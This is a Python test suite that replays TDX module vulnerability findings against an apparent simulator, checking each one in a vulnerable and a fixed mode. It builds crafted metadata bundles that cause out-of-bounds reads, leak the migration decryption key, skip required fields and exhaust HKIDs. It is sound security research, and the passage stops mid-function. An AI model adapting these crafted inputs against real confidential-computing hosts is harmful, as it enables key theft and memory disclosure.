"""Findings suite: each logic-level finding as a deterministic replay scenario.

A scenario is a declarative spec: the engine-mode toggles it switches on, an
ordered call list with expected statuses (always referenced through named
status constants), and final checks.  Run with mode=vulnerable the toggles are
applied and the expected outcome is EXPLOITED; with mode=fixed everything
stays at the post-fix behavior and the expected outcome is NOT EXPLOITABLE.
The runner also validates every TD's op-state trace against the permission
matrix fixture.

Expectations are written for the vulnerable mode.  A step's status holds in
both modes unless the step names a ``fixed`` one; a check's truth value flips
in fixed mode unless the check names a ``fixed`` value.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from . import md_codec as md
from . import status as S
from .catalog import FieldCatalog
from .engine import Bundle, EngineMode, EpochToken, InterruptPolicy, TdxModule
from .envelope import (
    BundleType,
    MigrationSessionKey,
    MigStreamContext,
    decrypt_bundle,
    encrypt_bundle,
)
from .md_codec import MD_CTX_TD, MD_CTX_VP, MdSequence
from .states import OpState, validate_trace
from .td import (
    ATTR_DEBUG, ATTR_MIGRATABLE, ATTR_PERFMON, U64, EventFilter, TdParams, audit_event_filters,
)

# The 8-byte value planted past the sentinel regions for the leak replays;
# mirrors the kind of module address the real leak channel surfaces.
LEAK_SENTINEL = 0x00FFFF9C00004010
LEAK_SENTINEL_OFFSET = 12280


SUCCESS = S.TDX_SUCCESS
INTERRUPTED = S.TDX_INTERRUPTED_RESUMABLE
OP_STATE_INCORRECT = S.TDX_OP_STATE_INCORRECT
OPERAND_INVALID_XFAM = S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_XFAM)
NOT_READABLE = S.TDX_METADATA_FIELD_NOT_READABLE
VCPUS_NOT_MIGRATED = S.TDX_SOME_VCPUS_NOT_MIGRATED
# A walk's fatal words keep its level-2 details: 0xFFFF and the failing
# sequence's index (the crafted VP list's out-of-place header is sequence 3).
FATAL_FIELD_ID_INCORRECT = S.as_fatal(S.with_l2_details(S.TDX_METADATA_FIELD_ID_INCORRECT, 0xFFFF, 3))
FATAL_LIST_OVERFLOW = S.as_fatal(md.LIST_OVERFLOW)
FATAL_REQUIRED_MISSING = S.as_fatal(S.TDX_REQUIRED_METADATA_FIELD_MISSING)
FATAL_VALUE_NOT_VALID = S.as_fatal(S.TDX_METADATA_FIELD_VALUE_NOT_VALID)
TD_FATAL = S.TDX_TD_FATAL
EVENT_FILTER_INVALID_2 = S.with_operand(S.TDX_EVENT_FILTER_INVALID, 2)
EVENT_FILTER_INVALID_1 = S.with_operand(S.TDX_EVENT_FILTER_INVALID, 1)
OPERAND_INVALID_RCX = S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_RCX)
OPERAND_INVALID_TDR = S.with_operand(S.TDX_OPERAND_INVALID, S.OPERAND_ID_TDR)
SERVTD_UUID_MISMATCH = S.TDX_SERVTD_UUID_MISMATCH
HKID_NOT_FREE = S.with_operand(S.TDX_HKID_NOT_FREE, S.OPERAND_ID_RCX)
MAX_EXPORTS = S.TDX_MAX_EXPORTS_EXCEEDED


@dataclass
class Step:
    """One scripted call and the exact status word it must return."""

    call: str
    run: Callable[[TdxModule, dict], Optional[int]]
    expect: int
    fixed: Optional[int] = None

    def expected(self, vulnerable: bool) -> int:
        return self.expect if vulnerable or self.fixed is None else self.fixed


@dataclass
class Check:
    label: str
    run: Callable[[TdxModule, dict], bool]
    expect: bool
    fixed: Optional[bool] = None

    def expected(self, vulnerable: bool) -> bool:
        if vulnerable:
            return self.expect
        return not self.expect if self.fixed is None else self.fixed


@dataclass
class Scenario:
    name: str
    title: str
    toggles: tuple[str, ...]
    setup: Callable[[TdxModule], dict]
    steps: list[Step]
    checks: list[Check]


@dataclass
class ScenarioRun:
    name: str
    mode: str
    ok: bool
    verdict: str
    transcript: str
    module: TdxModule
    env: dict


# --- bundle crafting ---------------------------------------------------------

def collect_sequences(lists_bytes: list[bytes]) -> list[MdSequence]:
    seqs: list[MdSequence] = []
    for data in lists_bytes:
        seqs.extend(md.parse_list(data).sequences)
    return seqs


def repack(sequences: list[MdSequence]) -> list[bytes]:
    """Greedy repack of sequences into fresh 4KB lists."""
    lists: list[bytes] = []
    pending: list[MdSequence] = []
    room = md.LIST_BYTES - md.LIST_HEADER_BYTES
    for seq in sequences:
        if seq.size > room and pending:
            lists.append(md.build_list(pending).to_bytes())
            pending = []
            room = md.LIST_BYTES - md.LIST_HEADER_BYTES
        pending.append(seq)
        room -= seq.size
    if pending:
        lists.append(md.build_list(pending).to_bytes())
    return lists


def zero_mask_entry(sequences: list[MdSequence], catalog: FieldCatalog,
                    context_code: int, name: str) -> list[MdSequence]:
    """Rewrite the named entry's sequence to carry a zero write mask."""
    target = catalog.by_name(context_code, name)
    out = []
    for seq in sequences:
        fid = md.decode_field_id(seq.header_raw)
        if fid.class_code == target.class_code and target.covers(fid.field_code):
            fid.write_mask_valid = 1
            out.append(MdSequence(fid.to_raw(), [0] + list(seq.elements)))
        else:
            out.append(seq)
    return out


def seal(key_qwords: list[int], bundle_type: BundleType, lists_bytes: list[bytes],
         stream_index: int = 0, iv_counter: int = 0x1000) -> Bundle:
    """Encrypt attacker-crafted lists with the known session key."""
    ctx = MigStreamContext(stream_index, MigrationSessionKey.from_quadwords(key_qwords))
    ctx.iv_counter = iv_counter
    mbmd, ciphertext = encrypt_bundle(ctx, bundle_type, lists_bytes)
    return Bundle(mbmd, ciphertext)


def crafted_vp_list(extra_oob_header: bool, num_fields: int = 512) -> bytes:
    """The malicious vp-state list: an underflowing write-mask walk at the tail.

    Layout: two filler sequences end exactly at offset 4080, then an n-field
    write-mask sequence whose header and mask element are the last in-bounds
    16 bytes.  list_buff_size=1 drives the header-residue wrap, and the
    per-field mask deduction keeps the walk going past the list: 16 bytes per
    field, 8KB at the 512-field maximum.  With the extra out-of-place header
    (one more claimed sequence) the walk's next header read ends exactly
    16 * num_fields bytes past the list end.
    """
    filler1 = MdSequence(md.make_sequence_header(MD_CTX_VP, 0x12, 0, num_fields=506), [0] * 506)
    filler2 = MdSequence(md.make_sequence_header(MD_CTX_VP, 0x11, 0x28), [0])
    crafted = MdSequence(
        md.make_sequence_header(MD_CTX_VP, 0x12, 0, num_fields=num_fields, write_mask_valid=True),
        [U64],
    )
    num_sequences = 4 if extra_oob_header else 3
    header = md.MdListHeader(list_buff_size=1, num_sequences=num_sequences)
    body = header.to_bytes() + filler1.to_bytes() + filler2.to_bytes() + crafted.to_bytes()
    return body.ljust(md.LIST_BYTES, b"\x00")


def list_header_underflow_list() -> bytes:
    """List-header underflow shape: size field 0, one sequence claiming 511 fields.

    Only 510 element slots fit behind the header, so honoring the claim walks
    the final element read exactly one slot past the list.
    """
    seq_header = md.make_sequence_header(MD_CTX_TD, 0x1C, 0, num_fields=511)
    header = md.MdListHeader(list_buff_size=0, num_sequences=1)
    body = header.to_bytes() + seq_header.to_bytes(8, "little") + b"\x00" * 4080
    assert len(body) == md.LIST_BYTES
    return body


# --- shared environment builders ----------------------------------------------

def _write_key(m: TdxModule, migtd, handle, key: list[int]) -> None:
    """The migration TD writes the session key into the TD its handle names."""
    key_entry = m.catalog.by_name(MD_CTX_TD, "MIG_DEC_KEY")
    for i, quadword in enumerate(key):
        status, _ = m.tdg_servtd_wr(migtd, handle, key_entry.field_id_for(0) + i, quadword)
        assert status == S.TDX_SUCCESS, S.status_str(status)


def standard_setup(m: TdxModule, num_vcpus: int = 1, num_pages: int = 2) -> dict:
    """Build a migratable source TD, a destination template, and exchange the MSK."""
    status, src = m.build_td(TdParams(attributes=ATTR_MIGRATABLE), num_vcpus, num_pages)
    assert status == S.TDX_SUCCESS, S.status_str(status)
    migtd = m.new_servtd()
    m.tdh_mig_stream_create(src)
    _, src_handle = m.tdh_servtd_bind(src, 0, migtd)
    key = [m.rng.getrandbits(64) | 1 for _ in range(4)]
    _write_key(m, migtd, src_handle, key)

    env = {"src": src, "migtd": migtd, "src_handle": src_handle, "key": key}
    env.update(new_template(m, env))
    status, bundle = m.tdh_export_state_immutable(src)
    assert status == S.TDX_SUCCESS
    env["bundle_immutable"] = bundle
    return env


def new_template(m: TdxModule, env: dict) -> dict:
    """A fresh destination template TD bound to the same migration TD."""
    status, dst = m.tdh_mng_create(hkid=m.kot.free_hkids()[0])
    assert status == S.TDX_SUCCESS
    for _ in range(6):
        m.tdh_mng_addcx(dst)
    m.tdh_mig_stream_create(dst)
    _, handle = m.tdh_servtd_bind(dst, 0, env["migtd"])
    _write_key(m, env["migtd"], handle, env["key"])
    return {"dst": dst, "dst_handle": handle}


def export_blackout(m: TdxModule, env: dict) -> None:
    """Pause the source and capture the mutable TD and per-VP bundles."""
    src = env["src"]
    if "bundle_immutable" not in env:
        _, env["bundle_immutable"] = m.tdh_export_state_immutable(src)
    status = m.tdh_export_pause(src)
    assert status == S.TDX_SUCCESS
    _, env["bundle_td"] = m.tdh_export_state_td(src)
    env["bundle_vps"] = []
    for i in range(len(src.vps)):
        _, bundle = m.tdh_export_state_vp(src, i)
        env["bundle_vps"].append(bundle)
    _, env["start_token"] = m.tdh_export_track(src, start=True)


def import_to_state_import(m: TdxModule, env: dict, dst=None) -> None:
    """Benign import of the immutable and mutable-TD bundles, VPs created."""
    dst = dst or env["dst"]
    status = m.tdh_import_state_immutable(dst, env["bundle_immutable"])
    assert status == S.TDX_SUCCESS, S.status_str(status)
    status = m.tdh_import_state_td(dst, env["bundle_td"])
    assert status == S.TDX_SUCCESS, S.status_str(status)
    for i in range(len(env["src"].vps)):
        m.tdh_vp_create(dst)
        m.tdh_vp_addcx(dst, i)


def finish_import(m: TdxModule, env: dict, dst=None) -> int:
    dst = dst or env["dst"]
    for i in range(len(env["src"].vps)):
        status = m.tdh_import_state_vp(dst, i, env["bundle_vps"][i])
        if status != S.TDX_SUCCESS:
            return status
    for call in (
        lambda: m.tdh_import_track(dst, env["start_token"]),
        lambda: m.tdh_import_commit(dst),
        lambda: m.tdh_import_end(dst),
    ):
        status = call()
        if status != S.TDX_SUCCESS:
            return status
    return S.TDX_SUCCESS


def decrypted_lists(m: TdxModule, env: dict, bundle: Bundle) -> list[bytes]:
    ctx = MigStreamContext(0, MigrationSessionKey.from_quadwords(env["key"]))
    status, lists = decrypt_bundle(ctx, bundle.mbmd, bundle.data)
    assert status == S.TDX_SUCCESS
    return lists


# --- the scenarios -------------------------------------------------------------

def _scenario_v1() -> Scenario:
    key_id = 0x9810000300000010
    attr_id = 0x1110000300000000

    def setup(m: TdxModule) -> dict:
        return standard_setup(m, num_vcpus=1)

    steps = [
        Step(
            "tdh_import_state_immutable dst (interrupt storm pending)",
            lambda m, e: m.tdh_import_state_immutable(
                e["dst"], e["bundle_immutable"], policy=InterruptPolicy.after(1)
            ),
            INTERRUPTED,
        ),
        Step(
            "tdh_mng_init dst (attributes.debug, invalid xfam)",
            lambda m, e: m.tdh_mng_init(e["dst"], TdParams(attributes=ATTR_DEBUG, xfam=0)),
            OPERAND_INVALID_XFAM, fixed=OP_STATE_INCORRECT,
        ),
        Step(
            "tdh_import_state_immutable dst (resume)",
            lambda m, e: m.tdh_import_state_immutable(e["dst"], e["bundle_immutable"], resume=True),
            SUCCESS,
        ),
        Step(
            "tdh_mng_rd dst ATTRIBUTES",
            lambda m, e: _stash(e, "attrs", m.tdh_mng_rd(e["dst"], attr_id)),
            SUCCESS,
        ),
        Step(
            "tdh_mng_rd dst MIG_DEC_KEY --count=4",
            lambda m, e: _stash(e, "key_read", m.tdh_mng_rd(e["dst"], key_id, count=4)),
            SUCCESS, fixed=NOT_READABLE,
        ),
        Step(
            "tdh_import_track dst (start token)",
            lambda m, e: m.tdh_import_track(e["dst"], EpochToken(start=True, epoch=1)),
            SUCCESS, fixed=VCPUS_NOT_MIGRATED,
        ),
    ]
    checks = [
        Check(
            "destination ATTRIBUTES is 0x1 (debug)",
            lambda m, e: e.get("attrs") == [1],
            True,
        ),
        Check(
            "all four MIG_DEC_KEY quadwords leaked to the host",
            lambda m, e: e.get("key_read") == e["key"],
            True,
        ),
        Check(
            "num_vcpus zeroed by the interleaved init",
            lambda m, e: e["dst"].num_vcpus == 0,
            True,
        ),
        Check(
            "import_track passed with zero vcpus (POST_IMPORT)",
            lambda m, e: e["dst"].op_state is OpState.POST_IMPORT,
            True,
        ),
    ]
    return Scenario(
        name="cve-2025-30513",
        title="migratable TD becomes debuggable during interrupted immutable import",
        toggles=("v1",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _stash(env: dict, key: str, result) -> int:
    status, value = result
    env[key] = value
    return status


def _scenario_v2() -> Scenario:
    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        import_to_state_import(m, env)
        env.update({"dst2": new_template(m, env)["dst"]})
        import_to_state_import(m, env, dst=env["dst2"])
        env["option1"] = seal(env["key"], BundleType.VP, [crafted_vp_list(extra_oob_header=True)])
        env["option2"] = seal(env["key"], BundleType.VP, [crafted_vp_list(extra_oob_header=False)])
        m.arena_plants = {LEAK_SENTINEL_OFFSET: LEAK_SENTINEL}
        return env

    def xbuff_leaked(m: TdxModule, e: dict) -> bool:
        walks = e["dst2"].trace[-1].walks
        if not walks:
            return False
        arena = walks[0][0]
        xbuff = m.catalog.by_name(MD_CTX_VP, "XBUFF")
        values = e["dst2"].vps[0].values(xbuff)
        # Field i of the crafted walk copies the qword at 4096 + 16*i.
        copied = [arena.peek_u64(4096 + 16 * i) for i in range(512)]
        return values[:512] == copied and any(copied)

    steps = [
        Step(
            "tdh_import_state_vp dst (crafted bundle, option 1: register exfil)",
            lambda m, e: m.tdh_import_state_vp(e["dst"], 0, e["option1"]),
            FATAL_FIELD_ID_INCORRECT, fixed=FATAL_LIST_OVERFLOW,
        ),
        Step(
            "tdh_import_state_vp dst2 (crafted bundle, option 2: exfil via XBUFF)",
            lambda m, e: m.tdh_import_state_vp(e["dst2"], 0, e["option2"]),
            FATAL_REQUIRED_MISSING, fixed=FATAL_LIST_OVERFLOW,
        ),
    ]
    checks = [
        Check(
            "extended error info 1 carries the planted sentinel",
            lambda m, e: e["dst"].trace[-1].ext_err_info[0] == LEAK_SENTINEL,
            True,
        ),
        Check(
            "maximum out-of-bounds span is exactly 8192 bytes",
            lambda m, e: max((a.max_oob_span() for a, _ in e["dst"].trace[-1].walks),
                             default=0) == 8192,
            True,
        ),
        Check(
            "out-of-bounds qwords copied into attacker-readable XBUFF state",
            xbuff_leaked,
            True,
        ),
        Check(
            "no out-of-bounds arena reads logged",
            lambda m, e: all(
                not a.oob_reads()
                for a, _ in e["dst"].trace[-1].walks + e["dst2"].trace[-1].walks
            ),
            False,
        ),
    ]
    return Scenario(
        name="cve-2025-32007",
        title="metadata sequence parsing underflow reads 8KB past the list",
        toggles=("v2", "bug1"),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug1() -> Scenario:
    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        status = m.tdh_import_state_immutable(env["dst"], env["bundle_immutable"])
        assert status == S.TDX_SUCCESS
        env["crafted"] = seal(env["key"], BundleType.TD, [list_header_underflow_list()])
        return env

    steps = [
        Step(
            "tdh_import_state_td dst (list_buff_size = 0)",
            lambda m, e: m.tdh_import_state_td(e["dst"], e["crafted"]),
            FATAL_REQUIRED_MISSING, fixed=FATAL_LIST_OVERFLOW,
        ),
    ]
    checks = [
        Check(
            "header residue wrapped to 65528 (16-bit oracle)",
            lambda m, e: e["dst"].trace[-1].walks[0][1].initial_remaining == 65528,
            True,
        ),
        Check(
            "walk read past the list end",
            lambda m, e: bool(e["dst"].trace[-1].walks[0][0].oob_reads()),
            True,
        ),
        Check(
            "rejected before any sequence read (header read only)",
            lambda m, e: e["dst"].trace[-1].walks[0][0].read_count == 1,
            False,
        ),
    ]
    return Scenario(
        name="bug-1-list-header-underflow",
        title="metadata list header size wraps the 16-bit residue",
        toggles=("bug1",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug2() -> Scenario:
    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        catalog = m.catalog
        imm_lists = decrypted_lists(m, env, env["bundle_immutable"])
        vp_lists = decrypted_lists(m, env, env["bundle_vps"][0])

        # One template TD per table row being demonstrated.
        for name in ("dst_eptp", "dst_xcr0", "dst_values", "dst_export"):
            env[name] = new_template(m, env)["dst"]

        td_seqs = collect_sequences(imm_lists[1:])
        eptp_skip = [imm_lists[0]] + repack(zero_mask_entry(td_seqs, catalog, MD_CTX_TD, "EPTP"))
        env["b_eptp"] = seal(env["key"], BundleType.IMMUTABLE, eptp_skip)

        vp_seqs = collect_sequences(vp_lists)
        xcr0_skip = repack(zero_mask_entry(vp_seqs, catalog, MD_CTX_VP, "XCR0"))
        env["b_xcr0"] = seal(env["key"], BundleType.VP, xcr0_skip)

        value_seqs = td_seqs
        for name in ("NUM_VCPUS", "TSC_FREQUENCY", "HP_LOCK_TIMEOUT"):
            value_seqs = zero_mask_entry(value_seqs, catalog, MD_CTX_TD, name)
        env["b_values"] = seal(
            env["key"], BundleType.IMMUTABLE, [imm_lists[0]] + repack(value_seqs)
        )

        export_lists = [bytearray(data) for data in [imm_lists[0]] + repack(td_seqs)]
        export_count = catalog.by_name(MD_CTX_TD, "EXPORT_COUNT").field_id_for(0)
        patched = md.patch_element(export_lists, export_count, 0, 0x80000000)
        assert patched
        env["b_export"] = seal(env["key"], BundleType.IMMUTABLE, [bytes(d) for d in export_lists])
        return env

    def import_xcr0(m: TdxModule, e: dict) -> int:
        import_to_state_import(m, e, dst=e["dst_xcr0"])
        return m.tdh_import_state_vp(e["dst_xcr0"], 0, e["b_xcr0"])

    def enter_after_xcr0_skip(m: TdxModule, e: dict) -> int:
        dst = e["dst_xcr0"]
        m.tdh_import_track(dst, e["start_token"])
        m.tdh_import_commit(dst)
        return m.tdh_vp_enter(dst, 0)

    def values_track(m: TdxModule, e: dict) -> int:
        return m.tdh_import_track(e["dst_values"], EpochToken(start=True, epoch=99))

    def export_capped(m: TdxModule, e: dict) -> int:
        dst = e["dst_export"]
        status = m.tdh_import_state_immutable(dst, e["b_export"])
        if status != S.TDX_SUCCESS:
            return status
        m.tdh_import_state_td(dst, e["bundle_td"])
        m.tdh_vp_create(dst)
        m.tdh_vp_addcx(dst, 0)
        m.tdh_import_state_vp(dst, 0, e["bundle_vps"][0])
        m.tdh_import_track(dst, e["start_token"])
        m.tdh_import_commit(dst)
        m.tdh_import_end(dst)
        status, _ = m.tdh_export_state_immutable(dst)
        return status

    steps = [
        Step(
            "tdh_import_state_immutable dst (EPTP skipped via zero write mask)",
            lambda m, e: m.tdh_import_state_immutable(e["dst_eptp"], e["b_eptp"]),
            SUCCESS, fixed=FATAL_REQUIRED_MISSING,
        ),
        Step(
            "tdh_mem_sept_add dst (secure page-table walk)",
            lambda m, e: m.tdh_mem_sept_add(e["dst_eptp"], 0x1000),
            TD_FATAL, fixed=OP_STATE_INCORRECT,
        ),
        Step(
            "tdh_import_state_vp dst2 (XCR0 skipped via zero write mask)",
            import_xcr0,
            SUCCESS, fixed=FATAL_REQUIRED_MISSING,
        ),
        Step(
            "tdh_vp_enter dst2 vp0",
            enter_after_xcr0_skip,
            TD_FATAL, fixed=OP_STATE_INCORRECT,
        ),
        Step(
            "tdh_import_state_immutable dst3 (NUM_VCPUS/TSC_FREQUENCY/HP_LOCK_TIMEOUT skipped)",
            lambda m, e: m.tdh_import_state_immutable(e["dst_values"], e["b_values"]),
            SUCCESS, fixed=FATAL_REQUIRED_MISSING,
        ),
        Step(
            "tdh_import_track dst3 (start token, no VPs imported)",
            values_track,
            SUCCESS, fixed=OP_STATE_INCORRECT,
        ),
        Step(
            "import EXPORT_COUNT=0x80000000 then tdh_export_state_immutable dst4",
            export_capped,
            MAX_EXPORTS,
        ),
    ]
    checks = [
        Check(
            "skipped EPTP left at its zero init value",
            lambda m, e: e["dst_eptp"].eptp_raw == 0,
            True, fixed=True,
        ),
        Check(
            "SEPT walk froze the TD (machine-check analog)",
            lambda m, e: e["dst_eptp"].fatal,
            True,
        ),
        Check(
            "completion failure names the missing field (EPTP)",
            # The import's step is the one before the SEPT add's.
            lambda m, e: e["dst_eptp"].trace[-2].ext_err_info[0]
            == m.catalog.by_name(MD_CTX_TD, "EPTP").field_id_raw
            and e["dst_eptp"].op_state is OpState.FAILED_IMPORT,
            False,
        ),
        Check(
            "vp_enter froze the TD on xcr0 without x87",
            lambda m, e: e["dst_xcr0"].fatal,
            True,
        ),
        Check(
            "import completed with out-of-range zeros in TSC_FREQUENCY/HP_LOCK_TIMEOUT",
            lambda m, e: e["dst_values"].tsc_frequency == 0
            and e["dst_values"].hp_lock_timeout == 0
            and e["dst_values"].op_state is not OpState.FAILED_IMPORT,
            True,
        ),
        Check(
            "POST_IMPORT reached with zero imported VPs",
            lambda m, e: e["dst_values"].op_state is OpState.POST_IMPORT
            and e["dst_values"].num_vcpus == 0,
            True,
        ),
    ]
    return Scenario(
        name="bug-2-skippable-required-entries",
        title="required metadata entries skipped via zero write masks",
        toggles=("bug2",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug3() -> Scenario:
    def setup(m: TdxModule) -> dict:
        status, td = m.tdh_mng_create(hkid=m.kot.free_hkids()[0])
        assert status == S.TDX_SUCCESS
        m.tdh_mng_key_config(td)
        for _ in range(6):
            m.tdh_mng_addcx(td)
        params = TdParams(attributes=ATTR_PERFMON)
        filters_a = [
            EventFilter(event_select=1, umask=1).raw,
            EventFilter(event_select=2, umask=2).raw,
            EventFilter(event_select=3, umask=0x1FF).raw,  # umask over 8 bits
        ]
        filters_b = [
            EventFilter(event_select=5, umask=5).raw,
            EventFilter(event_select=6, negative=1).raw,   # negative set
        ] + [0] * 4
        return {"td": td, "params": params, "filters_a": filters_a, "filters_b": filters_b}

    steps = [
        Step(
            "tdh_mng_init td (3 filters, third illegal)",
            lambda m, e: m.tdh_mng_init(
                e["td"], e["params"], event_filtering=True,
                event_filters_num=3, event_filters=e["filters_a"],
            ),
            EVENT_FILTER_INVALID_2,
        ),
        Step(
            "tdh_mng_init td (count 6, second illegal)",
            lambda m, e: m.tdh_mng_init(
                e["td"], e["params"], event_filtering=True,
                event_filters_num=6, event_filters=e["filters_b"],
            ),
            EVENT_FILTER_INVALID_1,
        ),
        Step(
            "tdh_mng_init td (event filtering disabled)",
            lambda m, e: m.tdh_mng_init(e["td"], e["params"], event_filtering=False),
            SUCCESS,
        ),
    ]
    checks = [
        Check(
            "filter array fails the sortedness audit with filters_num > 0",
            lambda m, e: (lambda a: a["count"] > 0 and not a["sorted"])(
                audit_event_filters(e["td"])
            ),
            True,
        ),
        Check(
            "stale and uninitialized entries are live",
            lambda m, e: (lambda a: a["zero_entries"] > 0)(audit_event_filters(e["td"])),
            True,
        ),
        Check(
            "filters_num reset to 0 after every failure",
            lambda m, e: e["td"].event_filters_num == 0,
            False,
        ),
    ]
    return Scenario(
        name="bug-3-event-filter-init",
        title="illegal, stale, and unsorted event filter initialization",
        toggles=("bug3",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug4() -> Scenario:
    def setup(m: TdxModule) -> dict:
        start = m.cpuid.lookup_index(0x80000002, 0xFFFFFFFF)
        return {"start_field": m.cpuid.field_id_for(start)}

    def run_next(m: TdxModule, e: dict) -> int:
        e["result"] = m.md_next_cpuid_field(e["start_field"])
        return S.TDX_SUCCESS

    steps = [
        Step(
            "md_get_next_cpuid_value_entry from (0x80000002, 0xffffffff)",
            run_next,
            SUCCESS,
        ),
    ]
    checks = [
        Check(
            "search returned MD_FIELD_ID_NA",
            lambda m, e: e["result"] == md.MD_FIELD_ID_NA,
            True, fixed=True,
        ),
        Check(
            "exactly one out-of-bounds index access (index 79)",
            lambda m, e: m.cpuid.oob_accesses() == [79],
            True,
        ),
        Check(
            "no out-of-bounds index accesses",
            lambda m, e: m.cpuid.oob_accesses() == [],
            False,
        ),
    ]
    return Scenario(
        name="bug-4-cpuid-lookup-oob",
        title="next-entry search indexes one past the CPUID lookup array",
        toggles=("bug4",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug6() -> Scenario:
    from .td import make_binding_handle

    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        status, foreign = m.build_td(TdParams())
        assert status == S.TDX_SUCCESS
        migtd = env["migtd"]
        env["probe_empty"] = make_binding_handle(0, 0xDEAD, migtd.uuid[0])
        env["probe_foreign"] = make_binding_handle(0, foreign.tdr_page, migtd.uuid[0])
        return env

    def probe(handle: str) -> Callable[[TdxModule, dict], int]:
        def run(m: TdxModule, e: dict) -> int:
            e[f"{handle}_status"], _ = m.tdg_servtd_rd(e["migtd"], e[handle], 0x9810000300000010)
            return e[f"{handle}_status"]
        return run

    steps = [
        Step("tdg_servtd_rd probe (no TDR at address)", probe("probe_empty"), OPERAND_INVALID_TDR),
        Step(
            "tdg_servtd_rd probe (foreign TDR, uuid mismatch)",
            probe("probe_foreign"),
            SERVTD_UUID_MISMATCH, fixed=OPERAND_INVALID_TDR,
        ),
        Step(
            "tdg_servtd_rd dst MIG_DEC_KEY[0] (bound migration TD)",
            lambda m, e: _stash(e, "key0", m.tdg_servtd_rd(e["migtd"], e["dst_handle"], 0x9810000300000010)),
            SUCCESS,
        ),
    ]

    checks = [
        Check(
            "probe statuses reveal whether a TDR lives at the address",
            lambda m, e: e["probe_empty_status"] != e["probe_foreign_status"],
            True,
        ),
        Check(
            "bound migration TD reads back the key quadword it wrote",
            lambda m, e: e.get("key0") == e["key"][0],
            True, fixed=True,
        ),
    ]
    return Scenario(
        name="bug-6-binding-handle-oracle",
        title="binding-handle probes leak TDR host physical addresses",
        toggles=("bug6",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug8() -> Scenario:
    def setup(m: TdxModule) -> dict:
        return {"kot_size": len(m.kot)}

    def drain(m: TdxModule, e: dict) -> int:
        status = S.TDX_SUCCESS
        for hkid in range(len(m.kot)):
            status = m.tdh_sys_config(hkid, tdmr_entries=[0x1001])  # misaligned
        return status

    steps = [
        Step(
            "tdh_sys_config x K (bad TDMR entry alignment each time)",
            drain,
            OPERAND_INVALID_RCX,
        ),
        Step(
            "tdh_mng_create (any HKID)",
            lambda m, e: m.tdh_mng_create(hkid=0)[0],
            HKID_NOT_FREE, fixed=SUCCESS,
        ),
    ]
    checks = [
        Check(
            "all KOT entries left HKID_RESERVED (no TD creatable)",
            lambda m, e: m.kot.free_count() == 0,
            True,
        ),
        Check(
            "free-entry count conserved across failing calls",
            lambda m, e: m.kot.free_count() == e["kot_size"] - 1,  # one used by mng_create
            False,
        ),
    ]
    return Scenario(
        name="bug-8-hkid-exhaustion",
        title="failing sys_config calls leak HKID reservations",
        toggles=("bug8",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def _scenario_bug9() -> Scenario:
    BOGUS_GPA = 0xFFFF_8000_0000_0000  # above the 48-bit guest width

    def setup(m: TdxModule) -> dict:
        env = standard_setup(m, num_vcpus=1)
        export_blackout(m, env)
        import_to_state_import(m, env)
        vp_seqs = collect_sequences(decrypted_lists(m, env, env["bundle_vps"][0]))
        vapic = m.catalog.by_name(MD_CTX_VP, "L2_VAPIC_GPA")
        vp_seqs.append(
            MdSequence(
                md.make_sequence_header(MD_CTX_VP, vapic.class_code, vapic.field_code),
                [BOGUS_GPA],
            )
        )
        env["crafted"] = seal(env["key"], BundleType.VP, repack(vp_seqs))
        env["bogus"] = BOGUS_GPA
        return env

    steps = [
        Step(
            "tdh_import_state_vp dst (L2_VAPIC_GPA = non-canonical private GPA)",
            lambda m, e: m.tdh_import_state_vp(e["dst"], 0, e["crafted"]),
            SUCCESS, fixed=FATAL_VALUE_NOT_VALID,
        ),
    ]
    checks = [
        Check(
            "invalid private GPA accepted and stored",
            lambda m, e: e["dst"].vps[0].values(
                m.catalog.by_name(MD_CTX_VP, "L2_VAPIC_GPA")
            )[0] == e["bogus"],
            True,
        ),
        Check(
            "import failed and the TD is quarantined in FAILED_IMPORT",
            lambda m, e: e["dst"].op_state is OpState.FAILED_IMPORT,
            False,
        ),
    ]
    return Scenario(
        name="bug-9-gpa-check-skip",
        title="private-GPA validity checks skipped on metadata import",
        toggles=("bug9",),
        setup=setup,
        steps=steps,
        checks=checks,
    )


def all_scenarios() -> dict[str, Scenario]:
    scenarios = [
        _scenario_v1(),
        _scenario_v2(),
        _scenario_bug1(),
        _scenario_bug2(),
        _scenario_bug3(),
        _scenario_bug4(),
        _scenario_bug6(),
        _scenario_bug8(),
        _scenario_bug9(),
    ]
    return {s.name: s for s in scenarios}


def replay(scenario: Scenario, module: TdxModule, vulnerable: bool) -> tuple[bool, list[str], dict]:
    """Play the scenario on ``module`` against one mode's expectations.

    Runs the set-up, every step and check, and the op-state trace validation
    of every TD.  Returns whether all of them met the expectations, the
    transcript lines, and the scenario's environment.
    """
    lines = []
    ok = True
    env = scenario.setup(module)
    for step in scenario.steps:
        status = step.run(module, env)
        expected = step.expected(vulnerable)
        matched = status == expected
        ok = ok and matched
        lines.append(f"host-vmm: {step.call}")
        lines.append(f"TDX STATUS: {S.status_str(status)}")
        if status is not None and status & S.TDX_FATAL_FLAG_MASK:
            rcx, rdx = module.last.ext_err_info
            lines.append(f"extended error information 1: {hex(rcx)}, 2: {hex(rdx)}")
        if not matched:
            lines.append(f"  MISMATCH: expected {S.status_str(expected)}")
    for check in scenario.checks:
        observed = bool(check.run(module, env))
        expected = check.expected(vulnerable)
        matched = observed is expected
        ok = ok and matched
        flag = "yes" if observed else "no"
        want = "yes" if expected else "no"
        marker = "+" if matched else "!"
        lines.append(f"[{marker}] {check.label}: {flag} (expected {want})")
    trace_problems = []
    for td in module.tds.values():
